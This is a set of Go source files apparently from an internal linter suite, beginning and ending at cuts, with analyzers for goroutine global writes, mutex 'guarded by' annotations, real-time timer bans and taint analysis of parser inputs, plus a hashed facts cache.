	ast.Inspect(fd.Body, func(n ast.Node) bool {
		if found {
			return false
		}
		be, ok := n.(*ast.BinaryExpr)
		if !ok || be.Pos() >= pos {
			return true
		}
		switch be.Op {
		case token.LSS, token.LEQ, token.GTR, token.GEQ, token.EQL, token.NEQ:
		default:
			return true
		}
		// The comparison must involve state read from the target map (the
		// existing entry or something derived from it).
		involves := false
		ast.Inspect(be, func(m ast.Node) bool {
			if e, ok := m.(ast.Expr); ok {
				s := exprString(e)
				if s == mapName || strings.HasPrefix(s, mapName+"[") {
					involves = true
					return false
				}
			}
			return true
		})
		if involves {
			found = true
			return false
		}
		return true
	})
	if found {
		return true
	}
	// The comma-ok read `old, ok := m[k]` followed by any comparison on a
	// variable bound from it also pins: find such reads before pos and check
	// for comparisons mentioning their bindings.
	var bound []types.Object
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		as, ok := n.(*ast.AssignStmt)
		if !ok || as.Pos() >= pos || len(as.Rhs) != 1 {
			return true
		}
		ridx, ok := unparen(as.Rhs[0]).(*ast.IndexExpr)
		if !ok || exprString(ridx.X) != mapName {
			return true
		}
		for _, lhs := range as.Lhs {
			if id, ok := lhs.(*ast.Ident); ok && id.Name != "_" {
				if obj := pkg.Info.Defs[id]; obj != nil {
					bound = append(bound, obj)
				} else if obj := pkg.Info.Uses[id]; obj != nil {
					bound = append(bound, obj)
				}
			}
		}
		return true
	})
	if len(bound) == 0 {
		return false
	}
	objs := map[types.Object]bool{}
	for _, o := range bound {
		objs[o] = true
	}
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		if found {
			return false
		}
		be, ok := n.(*ast.BinaryExpr)
		if !ok || be.Pos() >= pos {
			return true
		}
		switch be.Op {
		case token.LSS, token.LEQ, token.GTR, token.GEQ, token.EQL, token.NEQ:
		default:
			return true
		}
		ast.Inspect(be, func(m ast.Node) bool {
			if id, ok := m.(*ast.Ident); ok {
				if obj := pkg.Info.Uses[id]; obj != nil && objs[obj] {
					found = true
					return false
				}
			}
			return true
		})
		return !found
	})
	return found
}

// checkWorkerGlobals flags references to package-level mutable variables
// inside a worker goroutine's function literal.
func checkWorkerGlobals(pkg *Package, fl *ast.FuncLit) []Diagnostic {
	var diags []Diagnostic
	ast.Inspect(fl.Body, func(n ast.Node) bool {
		id, ok := n.(*ast.Ident)
		if !ok {
			return true
		}
		obj := pkg.Info.Uses[id]
		if obj == nil || !isPackageLevelVar(pkg, obj) {
			return true
		}
		// Immutable globals (error sentinels, compiled regexps, lookup
		// tables never written after init) are tolerated when the goroutine
		// only reads them; flagging every read would ban error comparisons.
		// The rule targets writes and address-taking.
		if !writtenInside(pkg, fl, obj) {
			return true
		}
		diags = append(diags, Diagnostic{
			Analyzer: "shardpure",
			Pos:      pkg.Fset.Position(id.Pos()),
			Message: fmt.Sprintf("worker goroutine writes package-level variable %s; workers must communicate through channels and their own shard",
				obj.Name()),
		})
		return true
	})
	return diags
}

// writtenInside reports whether the goroutine body assigns to the object.
func writtenInside(pkg *Package, fl *ast.FuncLit, obj types.Object) bool {
	written := false
	ast.Inspect(fl.Body, func(n ast.Node) bool {
		if written {
			return false
		}
		switch node := n.(type) {
		case *ast.AssignStmt:
			for _, lhs := range node.Lhs {
				if writeRoot(pkg, lhs) == obj {
					written = true
				}
			}
		case *ast.IncDecStmt:
			if writeRoot(pkg, node.X) == obj {
				written = true
			}
		case *ast.UnaryExpr:
			if node.Op == token.AND && writeRoot(pkg, node.X) == obj {
				written = true
			}
		}
		return !written
	})
	return written
}
