package lint

import (
	"fmt"
	"go/ast"
	"go/token"
	"strings"
)

// Guarded checks lock discipline declared in the source itself. A struct
// field whose doc or line comment says
//
//	// guarded by <mutexField>
//
// may only be touched through a receiver whose method has already called
// <mutexField>.Lock() or .RLock() on the same receiver, lexically before
// the access in the same method body. The annotation names a sibling field;
// naming a field that does not exist is itself a finding, so annotations
// cannot rot silently.
//
// The check is lexical (a Lock textually before the access), which accepts
// the two idioms the codebase uses — `mu.Lock(); defer mu.Unlock()` and the
// explicit Lock/Unlock window — and does not attempt path-sensitive
// analysis. Accesses from non-method functions (constructors building the
// struct literal) and through closures capturing the value are out of
// scope; the annotation documents the steady-state method contract.
type Guarded struct{}

// guardAnnotation is the field-comment grammar.
const guardAnnotation = "guarded by "

// Name implements Analyzer.
func (Guarded) Name() string { return "guarded" }

// Doc implements Analyzer.
func (Guarded) Doc() string {
	return "a field annotated 'guarded by <mutex>' must only be accessed after locking that mutex on the same receiver"
}

// Applies implements Analyzer: anywhere an annotation appears.
func (Guarded) Applies(importPath string) bool { return true }

// guardedField records one annotated field of a struct type.
type guardedField struct {
	structName string
	fieldName  string
	guardName  string
	pos        token.Pos
}

// Check implements Analyzer.
func (g Guarded) Check(pkg *Package, _ *Facts) []Diagnostic {
	var diags []Diagnostic
	guards := map[string]map[string]string{} // struct -> field -> guard
	// Pass 1: collect annotations and validate the guard field exists.
	for _, f := range pkg.Files {
		for _, gf := range collectGuardedFields(f) {
			st := findStruct(pkg, gf.structName)
			if st == nil || !structHasField(st, gf.guardName) {
				diags = append(diags, Diagnostic{
					Analyzer: g.Name(),
					Pos:      pkg.Fset.Position(gf.pos),
					Message: fmt.Sprintf(
						"field %s.%s is guarded by %q, which is not a field of %s",
						gf.structName, gf.fieldName, gf.guardName, gf.structName),
				})
				continue
			}
			if guards[gf.structName] == nil {
				guards[gf.structName] = map[string]string{}
			}
			guards[gf.structName][gf.fieldName] = gf.guardName
		}
	}
	if len(guards) == 0 {
		return diags
	}
	// Pass 2: every method access to a guarded field must follow a lock of
	// the guard on the same receiver.
	for _, f := range pkg.Files {
		for _, decl := range f.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok || fd.Recv == nil || fd.Body == nil {
				continue
			}
			recvName, typeName := receiver(fd)
			fieldGuards := guards[typeName]
			if recvName == "" || len(fieldGuards) == 0 {
				continue
			}
			ast.Inspect(fd.Body, func(n ast.Node) bool {
				sel, ok := n.(*ast.SelectorExpr)
				if !ok {
					return true
				}
				id, ok := sel.X.(*ast.Ident)
				if !ok || id.Name != recvName {
					return true
				}
				guard, guarded := fieldGuards[sel.Sel.Name]
				if !guarded {
					return true
				}
				if lockedBefore(fd.Body, recvName, guard, sel.Pos()) {
					return true
				}
				diags = append(diags, Diagnostic{
					Analyzer: g.Name(),
					Pos:      pkg.Fset.Position(sel.Pos()),
					Message: fmt.Sprintf(
						"%s.%s is guarded by %s; lock %s.%s before accessing it in %s",
						recvName, sel.Sel.Name, guard, recvName, guard, fd.Name.Name),
				})
				return true
			})
		}
	}
	return diags
}

// collectGuardedFields scans a file's struct declarations for annotations.
func collectGuardedFields(f *ast.File) []guardedField {
	var out []guardedField
	ast.Inspect(f, func(n ast.Node) bool {
		ts, ok := n.(*ast.TypeSpec)
		if !ok {
			return true
		}
		st, ok := ts.Type.(*ast.StructType)
		if !ok {
			return true
		}
		for _, field := range st.Fields.List {
			guard := guardNameFrom(field.Doc)
			if guard == "" {
				guard = guardNameFrom(field.Comment)
			}
			if guard == "" {
				continue
			}
			for _, name := range field.Names {
				out = append(out, guardedField{
					structName: ts.Name.Name,
					fieldName:  name.Name,
					guardName:  guard,
					pos:        name.Pos(),
				})
			}
		}
		return true
	})
	return out
}

// guardNameFrom extracts the guard field name from a comment group.
func guardNameFrom(cg *ast.CommentGroup) string {
	if cg == nil {
		return ""
	}
	for _, c := range cg.List {
		text := strings.TrimSpace(strings.TrimPrefix(c.Text, "//"))
		if idx := strings.Index(text, guardAnnotation); idx >= 0 {
			rest := strings.Fields(text[idx+len(guardAnnotation):])
			if len(rest) > 0 {
				return strings.TrimSuffix(rest[0], ".")
			}
		}
	}
	return ""
}

// findStruct locates a struct type declaration by name across the package.
func findStruct(pkg *Package, name string) *ast.StructType {
	for _, f := range pkg.Files {
		var found *ast.StructType
		ast.Inspect(f, func(n ast.Node) bool {
			ts, ok := n.(*ast.TypeSpec)
			if !ok || ts.Name.Name != name {
				return true
			}
			if st, ok := ts.Type.(*ast.StructType); ok {
				found = st
				return false
			}
			return true
		})
		if found != nil {
			return found
		}
	}
	return nil
}

// structHasField reports whether the struct declares a field by that name.
func structHasField(st *ast.StructType, name string) bool {
	for _, field := range st.Fields.List {
		for _, n := range field.Names {
			if n.Name == name {
				return true
			}
		}
	}
	return false
}

// receiver returns the receiver variable name and the receiver's base type
// name ("" when the receiver is unnamed or anonymous).
func receiver(fd *ast.FuncDecl) (recvName, typeName string) {
	if len(fd.Recv.List) != 1 {
		return "", ""
	}
	field := fd.Recv.List[0]
	if len(field.Names) == 1 {
		recvName = field.Names[0].Name
	}
	typeName = baseTypeName(field.Type)
	return recvName, typeName
}

// baseTypeName strips pointers and type parameters off a receiver type.
func baseTypeName(expr ast.Expr) string {
	switch t := expr.(type) {
	case *ast.Ident:
		return t.Name
	case *ast.StarExpr:
		return baseTypeName(t.X)
	case *ast.IndexExpr:
		return baseTypeName(t.X)
	case *ast.IndexListExpr:
		return baseTypeName(t.X)
	default:
		return ""
	}
}

// lockedBefore reports whether recv.guard.Lock() or recv.guard.RLock() is
// called lexically before pos inside the method body.
func lockedBefore(body *ast.BlockStmt, recvName, guard string, pos token.Pos) bool {
	found := false
	ast.Inspect(body, func(n ast.Node) bool {
		if found {
			return false
		}
		call, ok := n.(*ast.CallExpr)
		if !ok || call.End() > pos {
			return true
		}
		// Match recv.guard.Lock() / recv.guard.RLock().
		method, ok := call.Fun.(*ast.SelectorExpr)
		if !ok || (method.Sel.Name != "Lock" && method.Sel.Name != "RLock") {
			return true
		}
		guardSel, ok := method.X.(*ast.SelectorExpr)
		if !ok || guardSel.Sel.Name != guard {
			return true
		}
		recv, ok := guardSel.X.(*ast.Ident)
		if !ok || recv.Name != recvName {
			return true
		}
		found = true
		return false
	})
	return found
}
