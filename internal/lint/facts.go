package lint

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"sort"
	"sync"
)

// This file is the cross-package facts engine: export data computed once per
// package — today, taint summaries for every function — consumed by the
// downstream analyzers that need to reason across package boundaries
// (taintflow's interprocedural propagation). Facts are pure functions of a
// package's source bytes and its dependencies' facts, so they are cached on
// disk keyed by content hash: `make lint` recomputes summaries only for
// packages whose files (or whose dependencies' files) actually changed.

// ParamFlow records that bytes flowing into one parameter reach the
// function's results.
type ParamFlow struct {
	// Param is the parameter index. For methods the receiver is parameter
	// 0 and the declared parameters follow; plain functions start at 0.
	Param int `json:"param"`
	// Results are the result indices the parameter's taint reaches.
	Results []int `json:"results"`
}

// ParamSink records that a parameter reaches a panic-prone sink inside the
// function (possibly transitively through callees) with no guarding bounds
// check on the path. Call sites that pass tainted values to this parameter
// inherit the finding.
type ParamSink struct {
	Param int `json:"param"`
	// Sink names the sink kind ("slice index", "make length", …).
	Sink string `json:"sink"`
}

// FuncFacts is the taint summary of one function: which results carry
// source taint unconditionally, which parameters flow to results, and which
// parameters reach unguarded sinks.
type FuncFacts struct {
	TaintedResults []int       `json:"tainted_results,omitempty"`
	Flows          []ParamFlow `json:"flows,omitempty"`
	Sinks          []ParamSink `json:"sinks,omitempty"`
}

// equalFacts reports summary equality — the fixed-point termination test.
func equalFacts(a, b *FuncFacts) bool {
	ja, _ := json.Marshal(a)
	jb, _ := json.Marshal(b)
	return string(ja) == string(jb)
}

// PackageFacts is the export data of one package: function summaries keyed
// by "Func" or "Type.Method", plus the provenance needed to validate a
// cached copy (own content hash and each module-local dependency's hash at
// compute time).
type PackageFacts struct {
	Path  string                `json:"path"`
	Hash  string                `json:"hash"`
	Deps  map[string]string     `json:"deps,omitempty"`
	Funcs map[string]*FuncFacts `json:"funcs,omitempty"`
}

// Facts is the engine: it computes, memoizes, and (optionally) persists
// per-package facts. All methods are safe for concurrent use — the driver
// analyzes packages in parallel and every analyzer may query the engine.
type Facts struct {
	mu     sync.Mutex
	loader *Loader
	// mem holds validated facts by import path; computing marks packages
	// whose facts are being computed (cycle guard — Go imports are acyclic,
	// so hitting one means corrupt input, not a real cycle).
	mem       map[string]*PackageFacts
	computing map[string]bool
	// disk holds entries loaded from the cache file, pending validation.
	disk      map[string]*PackageFacts
	cachePath string
	dirty     bool
}

// NewFacts returns an engine resolving packages through the loader.
func NewFacts(l *Loader) *Facts {
	return &Facts{
		loader:    l,
		mem:       map[string]*PackageFacts{},
		computing: map[string]bool{},
		disk:      map[string]*PackageFacts{},
	}
}

// factCacheFile is the on-disk cache format. A version mismatch discards
// the whole file: summaries are only comparable within one analyzer suite.
type factCacheFile struct {
	Version  string                   `json:"cblint_version"`
	Packages map[string]*PackageFacts `json:"packages"`
}

// LoadCache reads a facts cache written by SaveCache. Missing or malformed
// files are ignored — the cache is an accelerator, never a correctness
// input, because every entry is revalidated against current content hashes
// before use.
func (e *Facts) LoadCache(path string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.cachePath = path
	data, err := os.ReadFile(path)
	if err != nil {
		return
	}
	var f factCacheFile
	if json.Unmarshal(data, &f) != nil || f.Version != Version {
		return
	}
	for p, pf := range f.Packages {
		if pf != nil && pf.Hash != "" {
			e.disk[p] = pf
		}
	}
}

// SaveCache writes every computed fact back to the cache path given to
// LoadCache. A no-op when no path was set or nothing changed.
func (e *Facts) SaveCache() error {
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.cachePath == "" || !e.dirty {
		return nil
	}
	f := factCacheFile{Version: Version, Packages: e.mem}
	data, err := json.MarshalIndent(f, "", "  ")
	if err != nil {
		return err
	}
	if err := os.MkdirAll(filepath.Dir(e.cachePath), 0o755); err != nil {
		return err
	}
	return os.WriteFile(e.cachePath, append(data, '\n'), 0o644)
}

// For returns the facts for an import path, computing (or adopting a
// cache-validated copy of) them on demand. It returns nil for paths the
// engine cannot resolve inside the module — stdlib callees have no facts
// and the taint analysis treats them conservatively instead.
func (e *Facts) For(path string) *PackageFacts {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.forLocked(path)
}

// Record computes (or adopts from cache) the facts for an already loaded
// package — the driver's precompute step, so the parallel analysis phase
// hits only memoized entries.
func (e *Facts) Record(pkg *Package) *PackageFacts {
	e.mu.Lock()
	defer e.mu.Unlock()
	if pf, ok := e.mem[pkg.ImportPath]; ok {
		return pf
	}
	hash, err := e.packageHash(pkg.Dir)
	if err != nil {
		hash = ""
	}
	if pf := e.adoptCachedLocked(pkg.ImportPath, hash); pf != nil {
		return pf
	}
	return e.computeLocked(pkg, hash)
}

// forLocked is For with e.mu held (the compute path recurses through
// dependencies).
func (e *Facts) forLocked(path string) *PackageFacts {
	if pf, ok := e.mem[path]; ok {
		return pf
	}
	if e.computing[path] || e.loader == nil {
		return nil
	}
	dir, ok := e.loader.localDir(path)
	if !ok {
		return nil
	}
	hash, err := e.packageHash(dir)
	if err != nil {
		return nil
	}
	if pf := e.adoptCachedLocked(path, hash); pf != nil {
		return pf
	}
	pkg, err := e.loader.Load(dir)
	if err != nil {
		return nil
	}
	return e.computeLocked(pkg, hash)
}

// adoptCachedLocked promotes a disk entry into memory when its own hash and
// every recorded dependency's facts still match.
func (e *Facts) adoptCachedLocked(path, hash string) *PackageFacts {
	pf := e.disk[path]
	if pf == nil || hash == "" || pf.Hash != hash {
		return nil
	}
	depPaths := make([]string, 0, len(pf.Deps))
	//cblint:ignore maprange keys collected then sorted
	for dp := range pf.Deps {
		depPaths = append(depPaths, dp)
	}
	sort.Strings(depPaths)
	for _, dp := range depPaths {
		df := e.forLocked(dp)
		if df == nil || df.Hash != pf.Deps[dp] {
			return nil
		}
	}
	e.mem[path] = pf
	return pf
}

// computeLocked runs the taint summary fixed point over a loaded package.
func (e *Facts) computeLocked(pkg *Package, hash string) *PackageFacts {
	pf := &PackageFacts{Path: pkg.ImportPath, Hash: hash, Deps: map[string]string{}}
	e.computing[pkg.ImportPath] = true
	lookup := func(path string) *PackageFacts {
		if path == pkg.ImportPath {
			return nil // own package is served from the in-progress map
		}
		df := e.forLocked(path)
		if df != nil {
			pf.Deps[df.Path] = df.Hash
		}
		return df
	}
	pf.Funcs = computeTaintFacts(pkg, lookup)
	delete(e.computing, pkg.ImportPath)
	e.mem[pkg.ImportPath] = pf
	e.dirty = true
	return pf
}

// packageHash hashes the package's non-test Go sources — base names and
// contents, sorted — so the result is stable across checkouts and machines.
func (e *Facts) packageHash(dir string) (string, error) {
	bp, err := e.loader.bctx.ImportDir(dir, 0)
	if err != nil {
		return "", err
	}
	names := append([]string(nil), bp.GoFiles...)
	sort.Strings(names)
	h := sha256.New()
	for _, name := range names {
		data, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			return "", err
		}
		h.Write([]byte(name))
		h.Write([]byte{0})
		h.Write(data)
		h.Write([]byte{0})
	}
	return "sha256:" + hex.EncodeToString(h.Sum(nil)), nil
}

// HashFile returns the content hash of one file in the same format the
// facts engine uses — the driver stamps it into JSON output and baselines.
func HashFile(path string) string {
	data, err := os.ReadFile(path)
	if err != nil {
		return ""
	}
	sum := sha256.Sum256(data)
	return "sha256:" + hex.EncodeToString(sum[:])
}
