package lint

import (
	"fmt"
	"go/ast"
	"strings"
)

// Resilience forbids real-time waiting and wall-clock deadlines in internal
// production code. Retry backoff must be charged to the analysis's virtual
// clock through resilience.Session.NextBackoff — a time.Sleep in a retry
// loop would stall the real process and desynchronize the virtual timeline —
// and per-operation deadlines belong in resilience.Policy stage budgets, not
// in context.WithTimeout, whose timer fires on the process clock the
// simulation never advances. The timer functions overlap with the
// determinism analyzer's wall-clock ban on purpose: a sleep in internal code
// violates both invariants, and a sanctioned site must answer to both.
type Resilience struct{}

// realTimeWaitFuncs are the time functions that block on (or arm) the
// process timer.
var realTimeWaitFuncs = map[string]bool{
	"Sleep":     true,
	"After":     true,
	"Tick":      true,
	"NewTimer":  true,
	"NewTicker": true,
	"AfterFunc": true,
}

// realTimeDeadlineFuncs are the context constructors that arm a wall-clock
// deadline.
var realTimeDeadlineFuncs = map[string]bool{
	"WithTimeout":       true,
	"WithTimeoutCause":  true,
	"WithDeadline":      true,
	"WithDeadlineCause": true,
}

// Name implements Analyzer.
func (Resilience) Name() string { return "resilience" }

// Doc implements Analyzer.
func (Resilience) Doc() string {
	return "forbid time.Sleep/timers and context.WithTimeout/WithDeadline in internal code; charge backoff and budgets to the virtual clock via resilience.Session"
}

// Applies implements Analyzer: internal production packages only.
func (Resilience) Applies(importPath string) bool {
	return strings.Contains(importPath+"/", "/internal/") ||
		strings.HasPrefix(importPath, "internal/")
}

// Check implements Analyzer.
func (r Resilience) Check(pkg *Package, _ *Facts) []Diagnostic {
	var diags []Diagnostic
	for _, f := range pkg.Files {
		table := importTable(f)
		ast.Inspect(f, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			path, fn, ok := pkgCallee(pkg, table, call)
			if !ok {
				return true
			}
			switch {
			case path == "time" && realTimeWaitFuncs[fn]:
				diags = append(diags, Diagnostic{
					Analyzer: r.Name(),
					Pos:      pkg.Fset.Position(call.Pos()),
					Message: fmt.Sprintf(
						"time.%s blocks on the process timer; charge backoff to the virtual clock via resilience.Session.NextBackoff", fn),
				})
			case path == "context" && realTimeDeadlineFuncs[fn]:
				diags = append(diags, Diagnostic{
					Analyzer: r.Name(),
					Pos:      pkg.Fset.Position(call.Pos()),
					Message: fmt.Sprintf(
						"context.%s arms a wall-clock deadline; bound retries with resilience.Policy stage budgets on the virtual clock", fn),
				})
			}
			return true
		})
	}
	return diags
}
