package lint

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"sort"
	"strings"
)

// This file is the taint-analysis core shared by the facts engine and the
// taintflow analyzer. The model is deliberately coarse — taint is tracked
// per local variable object, not per field or per element — because the
// question it answers is coarse too: can bytes an attacker controls reach a
// site that panics or allocates unboundedly, with no bounds check anywhere
// on the way? Precision comes from the guard rule (any comparison lexically
// touching the value before the sink counts as a check, matching how the
// parsers actually validate) and from a small set of sanitizers (len/cap,
// modulo/mask by untainted values, regexp match positions, min with an
// untainted bound), which keep the false-positive rate low enough that
// every surviving finding deserves either a fix or a written-down reason.

// taintSourceFuncs maps package-path suffixes to the functions whose
// results carry fully attacker-controlled bytes: the parse entry points the
// pipeline feeds raw MIME bodies, HTML, PDFs, QR payloads, and URLs into.
var taintSourceFuncs = map[string][]string{
	"internal/mime":    {"Parse"},
	"internal/htmlx":   {"Parse", "DecodeEntities"},
	"internal/pdfx":    {"Parse"},
	"internal/qrcode":  {"DecodeMatrix", "DecodeImage"},
	"internal/minijs":  {"Parse"},
	"internal/urlx":    {"ExtractStrict", "ExtractStrictWhole", "ExtractLenient"},
	"internal/imaging": {"DecodeCBI"},
}

// attackerPackages are the parser packages whose exported entry points
// receive raw attacker bytes directly: inside them, every parameter of an
// exported top-level function is treated as a taint source, which is what
// turns the analysis loose on the parsers' own internals.
var attackerPackages = []string{
	"internal/mime",
	"internal/htmlx",
	"internal/pdfx",
	"internal/qrcode",
	"internal/minijs",
	"internal/urlx",
}

// pathMatches reports whether an import path equals the suffix or ends in
// "/"+suffix — the same matching maprange uses, so fixture packages under
// testdata resolve the way real packages do.
func pathMatches(path, suffix string) bool {
	return path == suffix || strings.HasSuffix(path, "/"+suffix)
}

// isAttackerPackage reports whether the import path is one of the
// attacker-facing parser packages.
func isAttackerPackage(path string) bool {
	for _, s := range attackerPackages {
		if pathMatches(path, s) {
			return true
		}
	}
	return false
}

// sourceFuncsFor returns the configured source functions for a package.
func sourceFuncsFor(path string) []string {
	for s, fns := range taintSourceFuncs {
		if pathMatches(path, s) {
			return fns
		}
	}
	return nil
}

// isSourceFunc reports whether pkgPath.fn is a configured taint source.
func isSourceFunc(pkgPath, fn string) bool {
	for _, name := range sourceFuncsFor(pkgPath) {
		if name == fn {
			return true
		}
	}
	return false
}

// taintSet is a bitmask of taint origins: bit 0 marks source-derived bytes,
// bit i+1 marks "flows from parameter i" (receiver = parameter 0 on
// methods). Functions with more than 62 parameters lose precision past the
// 62nd, which no real signature hits.
type taintSet uint64

const taintFromSource taintSet = 1

func paramTaint(i int) taintSet {
	if i < 0 || i >= 62 {
		return 0
	}
	return 1 << uint(i+1)
}

func (t taintSet) fromSource() bool { return t&taintFromSource != 0 }

// paramList expands the parameter bits back into indices.
func (t taintSet) paramList() []int {
	var out []int
	for i := 0; i < 62; i++ {
		if t&paramTaint(i) != 0 {
			out = append(out, i)
		}
	}
	return out
}

// funcKey names a function in a facts table: "Func" for plain functions,
// "Type.Method" for methods (pointer receivers collapse onto the type).
func funcKey(fn *types.Func) string {
	sig, ok := fn.Type().(*types.Signature)
	if !ok {
		return fn.Name()
	}
	recv := sig.Recv()
	if recv == nil {
		return fn.Name()
	}
	t := recv.Type()
	if p, ok := t.(*types.Pointer); ok {
		t = p.Elem()
	}
	if n, ok := t.(*types.Named); ok {
		return n.Obj().Name() + "." + fn.Name()
	}
	return "." + fn.Name()
}

// computeTaintFacts runs the package-level fixed point: every function's
// summary is recomputed from the current summaries (its own package's via
// the in-progress table, dependencies' via lookup) until nothing changes.
// Summaries only grow, so the iteration terminates; the cap is a backstop.
func computeTaintFacts(pkg *Package, lookup func(string) *PackageFacts) map[string]*FuncFacts {
	decls := taintableFuncs(pkg)
	funcs := make(map[string]*FuncFacts, len(decls))
	for key := range decls {
		funcs[key] = &FuncFacts{}
	}
	for round := 0; round < 10; round++ {
		changed := false
		keys := make([]string, 0, len(decls))
		//cblint:ignore maprange keys collected then sorted
		for key := range decls {
			keys = append(keys, key)
		}
		sort.Strings(keys)
		for _, key := range keys {
			ta := newTaintAnalysis(pkg, decls[key], funcs, lookup, nil)
			sum := ta.run()
			if !equalFacts(funcs[key], sum) {
				funcs[key] = sum
				changed = true
			}
		}
		if !changed {
			break
		}
	}
	return funcs
}

// taintableFuncs collects the package's function declarations with bodies,
// keyed the way call sites look them up.
func taintableFuncs(pkg *Package) map[string]*ast.FuncDecl {
	decls := map[string]*ast.FuncDecl{}
	for _, f := range pkg.Files {
		for _, decl := range f.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok || fd.Body == nil || pkg.Info == nil {
				continue
			}
			obj, ok := pkg.Info.Defs[fd.Name].(*types.Func)
			if !ok {
				continue
			}
			decls[funcKey(obj)] = fd
		}
	}
	return decls
}

// taintAnalysis is the per-function dataflow state.
type taintAnalysis struct {
	pkg    *Package
	fd     *ast.FuncDecl
	local  map[string]*FuncFacts
	lookup func(string) *PackageFacts
	// emit receives diagnostics during the report pass; nil during summary
	// computation.
	emit func(Diagnostic)

	vars     map[types.Object]taintSet
	params   map[types.Object]int
	nresults int
	// report marks the final pass: sinks are checked and return flows
	// recorded only after the variable state has converged.
	report bool
	sum    *summaryBuilder
	change bool
	// emitted dedupes diagnostics: the walk evaluates expressions both via
	// their enclosing statement and via Inspect's own descent, so the same
	// sink can be checked more than once per pass.
	emitted map[string]bool
}

// summaryBuilder accumulates a FuncFacts with set semantics.
type summaryBuilder struct {
	taintedResults map[int]bool
	flows          map[int]map[int]bool
	sinks          map[ParamSink]bool
}

func (b *summaryBuilder) build() *FuncFacts {
	out := &FuncFacts{}
	for r := range b.taintedResults {
		out.TaintedResults = append(out.TaintedResults, r)
	}
	sort.Ints(out.TaintedResults)
	pids := make([]int, 0, len(b.flows))
	//cblint:ignore maprange keys collected then sorted
	for p := range b.flows {
		pids = append(pids, p)
	}
	sort.Ints(pids)
	for _, p := range pids {
		var rs []int
		for r := range b.flows[p] {
			rs = append(rs, r)
		}
		sort.Ints(rs)
		out.Flows = append(out.Flows, ParamFlow{Param: p, Results: rs})
	}
	var sinks []ParamSink
	//cblint:ignore maprange sink set collected then sorted
	for s := range b.sinks {
		sinks = append(sinks, s)
	}
	sort.Slice(sinks, func(i, j int) bool {
		if sinks[i].Param != sinks[j].Param {
			return sinks[i].Param < sinks[j].Param
		}
		return sinks[i].Sink < sinks[j].Sink
	})
	out.Sinks = sinks
	return out
}

// newTaintAnalysis seeds the parameter objects. In attacker-facing parser
// packages, parameters of exported top-level functions additionally carry
// source taint — the bytes really are attacker-controlled there.
func newTaintAnalysis(pkg *Package, fd *ast.FuncDecl, local map[string]*FuncFacts,
	lookup func(string) *PackageFacts, emit func(Diagnostic)) *taintAnalysis {
	ta := &taintAnalysis{
		pkg: pkg, fd: fd, local: local, lookup: lookup, emit: emit,
		vars:    map[types.Object]taintSet{},
		params:  map[types.Object]int{},
		emitted: map[string]bool{},
		sum: &summaryBuilder{
			taintedResults: map[int]bool{},
			flows:          map[int]map[int]bool{},
			sinks:          map[ParamSink]bool{},
		},
	}
	entry := isAttackerPackage(pkg.ImportPath) && fd.Recv == nil && fd.Name.IsExported()
	idx := 0
	seed := func(names []*ast.Ident) {
		for _, name := range names {
			obj := pkg.Info.Defs[name]
			if obj != nil {
				ta.params[obj] = idx
				t := paramTaint(idx)
				if entry {
					t |= taintFromSource
				}
				ta.vars[obj] = t
			}
			idx++
		}
	}
	if fd.Recv != nil {
		for _, field := range fd.Recv.List {
			seed(field.Names)
			if len(field.Names) == 0 {
				idx++
			}
		}
	}
	if fd.Type.Params != nil {
		for _, field := range fd.Type.Params.List {
			seed(field.Names)
			if len(field.Names) == 0 {
				idx++
			}
		}
	}
	if fd.Type.Results != nil {
		ta.nresults = fd.Type.Results.NumFields()
	}
	return ta
}

// run converges the variable taint state, then makes the report pass.
func (ta *taintAnalysis) run() *FuncFacts {
	for round := 0; round < 8; round++ {
		ta.change = false
		ta.walk(ta.fd.Body)
		if !ta.change {
			break
		}
	}
	ta.report = true
	ta.walk(ta.fd.Body)
	return ta.sum.build()
}

// walk executes the transfer functions over every statement and, during the
// report pass, checks sinks and records return flows.
func (ta *taintAnalysis) walk(body *ast.BlockStmt) {
	ast.Inspect(body, func(n ast.Node) bool {
		switch node := n.(type) {
		case *ast.AssignStmt:
			ta.assign(node)
		case *ast.RangeStmt:
			ta.rangeAssign(node)
		case *ast.ReturnStmt:
			if ta.report {
				ta.recordReturn(node)
			}
		case *ast.CallExpr:
			// Evaluate for side effects (call-site sink checks fire during
			// the report pass even when the result is discarded).
			ta.eval(node)
		case *ast.IndexExpr:
			if ta.report {
				ta.checkIndexSink(node)
			}
		case *ast.SliceExpr:
			if ta.report {
				ta.checkSliceSink(node)
			}
		}
		return true
	})
}

// assign applies x := e / x = e / x op= e.
func (ta *taintAnalysis) assign(as *ast.AssignStmt) {
	var rhs []taintSet
	for _, r := range as.Rhs {
		rhs = append(rhs, ta.eval(r))
	}
	for i, lhs := range as.Lhs {
		var t taintSet
		if len(as.Rhs) == len(as.Lhs) {
			t = rhs[i]
		} else if len(rhs) == 1 {
			// Tuple assignment: every LHS inherits the call's taint.
			t = rhs[0]
		}
		if as.Tok != token.ASSIGN && as.Tok != token.DEFINE {
			// Compound assignment keeps the old taint.
			t |= ta.eval(lhs)
		}
		ta.taintExpr(lhs, t)
	}
}

// rangeAssign taints the iteration variables: values inherit the operand's
// taint; positional keys (slice/array/string indices) are bounded by
// construction and stay clean, while map keys inherit taint.
func (ta *taintAnalysis) rangeAssign(rs *ast.RangeStmt) {
	t := ta.eval(rs.X)
	isMap := false
	if ta.pkg.Info != nil {
		if tv, ok := ta.pkg.Info.Types[rs.X]; ok && tv.Type != nil {
			_, isMap = tv.Type.Underlying().(*types.Map)
		}
	}
	if rs.Key != nil {
		if isMap {
			ta.taintExpr(rs.Key, t)
		} else {
			ta.taintExpr(rs.Key, 0)
		}
	}
	if rs.Value != nil {
		ta.taintExpr(rs.Value, t)
	}
}

// taintExpr writes taint into the root object of an assignable expression.
// Writes through selectors and indexes taint the whole root — the analysis
// is not field-sensitive.
func (ta *taintAnalysis) taintExpr(lhs ast.Expr, t taintSet) {
	obj := ta.rootObj(lhs)
	if obj == nil {
		return
	}
	if _, isParam := ta.params[obj]; !isParam {
